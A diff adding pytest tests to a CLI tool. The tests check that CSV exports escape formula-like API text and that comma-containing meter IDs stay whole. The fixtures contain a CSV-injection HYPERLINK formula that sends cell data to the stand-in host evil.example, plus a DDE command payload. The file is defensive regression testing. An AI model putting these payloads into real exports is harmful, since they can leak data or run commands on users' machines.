@@ -14,6 +14,7 @@ from click.testing import CliRunner, Result
 from ecore_xl.cli import cli
 from ecore_xl.data import reset_service
 from ecore_xl.mock import MockServer
+from tests.conftest import soffice_missing
 from tests.data_fixtures import meter_ids, requests_made
 
 
@@ -164,3 +165,114 @@ def test_progress_bar_only_for_many_requests(capsys: pytest.CaptureFixture[str])
         many(done, 12)
     many.close()
     assert "Fetching volumes" in capsys.readouterr().err
+
+
+# ---- API text that looks like a formula (issue 12) ------------------------------------------
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+HOSTILE_FIELD = "@SUM(1+1)*cmd|' /C calc'!A0"
+
+
+@pytest.fixture
+def hostile_contracts(srv: MockServer) -> Iterator[None]:
+    """Every contract's name is a formula; an unknown field with a formula name, a DDE value."""
+    srv.extra_fields["/contracts"] = {"name": HOSTILE_NAME, HOSTILE_FIELD: "-2+3", "n": -2}
+    yield
+    srv.extra_fields.clear()
+
+
+def _csv_rows(path: Path) -> list[list[str]]:
+    import csv
+
+    with path.open(encoding="utf-8", newline="") as fh:
+        return list(csv.reader(fh))
+
+
+def test_csv_text_that_looks_like_a_formula_is_prefixed(  # type: ignore[no-untyped-def]
+    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
+) -> None:
+    out = tmp_path / "c.csv"
+    result = run("contracts", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    header, *rows = _csv_rows(out)
+    assert "'" + HOSTILE_FIELD in header  # a column name from the API too
+    name = header.index("name")
+    assert {r[name] for r in rows} == {"'" + HOSTILE_NAME}
+    assert {r[header.index("'" + HOSTILE_FIELD)] for r in rows} == {"'-2+3"}
+    assert {r[header.index("n")] for r in rows} == {"-2.0"}  # a number is a number
+    # no field of the file starts a formula
+    cells = [c for row in [header, *rows] for c in row]
+    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or c.startswith("-2+")]
+
+
+def test_no_escape_writes_text_as_sent(  # type: ignore[no-untyped-def]
+    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
+) -> None:
+    flag, setting = tmp_path / "flag.csv", tmp_path / "setting.csv"
+    assert run("contracts", "--no-escape", "--out", str(flag)).exit_code == 0
+    off = {"ECORE_ESCAPE_FORMULAS": "0"}
+    assert run("contracts", "--out", str(setting), env=off).exit_code == 0
+    for path in (flag, setting):
+        header, *rows = _csv_rows(path)
+        assert HOSTILE_FIELD in header
+        assert rows[0][header.index("name")] == HOSTILE_NAME
+
+
+@pytest.mark.skipif(soffice_missing(), reason="LibreOffice is not installed")
+def test_libreoffice_imports_the_csv_without_a_formula(  # type: ignore[no-untyped-def]
+    srv: MockServer, run, tmp_path: Path, hostile_contracts: None
+) -> None:
+    """What the issue saw: LibreOffice's default CSV import ran ``=HYPERLINK``; not any more.
+    The unescaped file is the control: there LibreOffice does make a formula of it."""
+    import zipfile
+
+    from ecore_xl.report.soffice import convert
+
+    def formulas_after_import(*flags: str) -> tuple[int, str]:
+        folder = tmp_path / ("raw" if flags else "escaped")
+        folder.mkdir()
+        out = folder / "c.csv"
+        assert run("contracts", *flags, "--out", str(out)).exit_code == 0
+        book = convert(out, "xlsx", folder / "lo", timeout=180)
+        with zipfile.ZipFile(book) as z:
+            sheet = z.read("xl/worksheets/sheet1.xml").decode()
+            strings = (
+                z.read("xl/sharedStrings.xml").decode()
+                if "xl/sharedStrings.xml" in (z.namelist())
+                else ""
+            )
+        return sheet.count("<f>") + sheet.count("<f "), strings
+
+    escaped, strings = formulas_after_import()
+    assert escaped == 0
+    assert "HYPERLINK(&quot;http://evil.example" in strings  # kept, as text
+    raw, _ = formulas_after_import("--no-escape")
+    assert raw > 0
+
+
+# ---- an id holding a comma stays one id (issue 12) ------------------------------------------
+
+
+@pytest.mark.parametrize(
+    "filters",
+    [
+        ["--filter", 'meterId="A,1",B'],
+        ["--filter", 'meterId="A,1"', "--filter", "meterId=B"],
+    ],
+)
+def test_a_quoted_id_with_a_comma_is_asked_for_as_one_id(filters: list[str]) -> None:
+    from urllib.parse import parse_qs, urlsplit
+
+    from tests.listener_fixtures import TinyHTTP, api_env, empty_pages, token_then
+
+    with TinyHTTP(token_then(empty_pages())) as api:
+        reset_service()
+        result = CliRunner().invoke(
+            cli,
+            ["fetch", "volumes", *filters, "--from", "2026-03-01", "--to", "2026-03-02"],
+            env=api_env(api.url),
+        )
+        reset_service()
+    assert result.exit_code == 0, result.output
+    asked = [parse_qs(urlsplit(path).query)["meterId"] for m, path, _ in api.requests if m == "GET"]
+    assert sorted(asked) == [["A,1"], ["B"]]  # two requests, in parallel
